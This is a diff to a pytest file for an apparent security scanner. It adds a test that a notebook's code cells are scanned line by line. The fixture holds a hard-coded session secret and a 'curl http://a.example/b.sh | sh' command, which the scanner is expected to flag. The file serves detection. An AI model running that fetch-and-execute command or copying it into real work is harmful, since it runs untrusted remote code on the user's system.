@@ -1,5 +1,6 @@
-"""Patterns of JavaScript in templates of EJS, and of PHP in those of Blade."""
+"""Patterns in files that hold code among other things: templates of EJS and Blade, notebooks."""
 
+import json
 from pathlib import Path
 
 import pytest
@@ -59,3 +60,21 @@ def test_a_template_whose_code_cannot_be_read_is_a_gap(
     reply = look(tmp_path, {name: text})
     assert UNREAD[name, text] in reply.gaps[name]
     assert reply.examined == []
+
+
+def test_code_and_commands_of_a_notebook_are_read_on_their_lines(tmp_path: Path) -> None:
+    cells = [
+        ["import os\n", "app.secret_key = 'k3y-of-the-app'\n", "!curl http://a.example/b.sh | sh"],
+        ["%%bash\n", "curl http://a.example/b.sh | sh"],
+    ]
+    whole = {"cells": [{"cell_type": "code", "source": source} for source in cells]}
+    text = json.dumps(whole, indent=1)
+    reply = look(tmp_path, {"a.ipynb": text})
+    assert not reply.gaps
+    rows = text.split("\n")
+    found = [(one.code, rows[one.line - 1].strip().strip('",')) for one in reply.findings]
+    assert found == [
+        ("python-session-secret", "app.secret_key = 'k3y-of-the-app'\\n"),
+        ("shell-plain-http-script", "!curl http://a.example/b.sh | sh"),
+        ("shell-plain-http-script", "curl http://a.example/b.sh | sh"),
+    ]
